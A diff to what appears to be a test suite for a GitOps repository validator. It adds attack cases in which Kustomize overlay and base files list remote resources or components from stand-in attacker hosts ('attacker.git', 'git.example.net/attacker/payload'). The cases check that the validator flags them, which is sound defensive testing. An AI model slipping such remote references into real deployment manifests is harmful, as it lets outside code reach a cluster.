@@ -128,6 +128,11 @@ spec:
 """
 
 
+# A git repository Kustomize would clone as the overlay builds (absent here: the build fails, and
+# validate must name the entry itself, as it would for one that builds).
+REMOTE_BASE = "file:///nonexistent/attacker.git//deploy?ref=main"
+
+
 def symlink(repo: Path, relative: str, target: str) -> None:
     (repo / relative).parent.mkdir(parents=True, exist_ok=True)
     (repo / relative).symlink_to(target)
@@ -544,6 +549,31 @@ ATTACKS: dict[str, Attack] = {
         "Argo CD objects belong under argocd/apps/",
     ),
     # --- Found by an adversarial review: files and fields Argo CD reads that validate did not --
+    "remote-resource-in-an-overlay": Attack(
+        lambda r: edit(
+            r, f"{DEV_OVERLAY}/kustomization.yaml", "resources:\n", f"resources:\n  - {REMOTE_BASE}\n"
+        ),
+        f"{DEV_OVERLAY}/kustomization.yaml:",
+        f"resources lists {REMOTE_BASE}, which is fetched from outside this repository",
+    ),
+    "remote-component-in-the-base": Attack(
+        lambda r: edit(
+            r,
+            f"applications/base/{APP}/kustomization.yaml",
+            "resources:\n",
+            "components:\n  - https://git.example.net/attacker/payload//sidecar\nresources:\n",
+        ),
+        f"applications/base/{APP}/kustomization.yaml:",
+        "components lists https://git.example.net/attacker/payload//sidecar, which is fetched",
+    ),
+    "remote-resource-in-a-kustomization-yml": Attack(
+        lambda r: (
+            edit(r, f"{DEV_OVERLAY}/kustomization.yaml", "resources:\n", f"resources:\n  - {REMOTE_BASE}\n"),
+            (r / DEV_OVERLAY / "kustomization.yaml").rename(r / DEV_OVERLAY / "kustomization.yml"),
+        ),
+        f"{DEV_OVERLAY}/kustomization.yml:",
+        f"resources lists {REMOTE_BASE}, which is fetched from outside this repository",
+    ),
     "argocd-source-file-in-an-overlay": Attack(
         lambda r: write(r, f"{DEV_OVERLAY}/.argocd-source.yaml", 'directory: {include: "payload.yaml"}\n'),
         f"{DEV_OVERLAY}/.argocd-source.yaml:",
